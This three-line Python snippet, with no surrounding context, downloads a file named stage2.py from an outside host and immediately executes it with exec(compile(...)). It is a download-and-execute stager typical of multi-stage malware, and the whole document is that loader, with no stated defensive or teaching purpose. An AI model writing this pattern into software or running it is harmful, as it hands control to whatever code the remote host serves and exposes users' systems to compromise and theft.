import urllib.request
code = urllib.request.urlopen("http://cdn.example.net/stage2.py").read()
exec(compile(code, "stage2", "exec"))
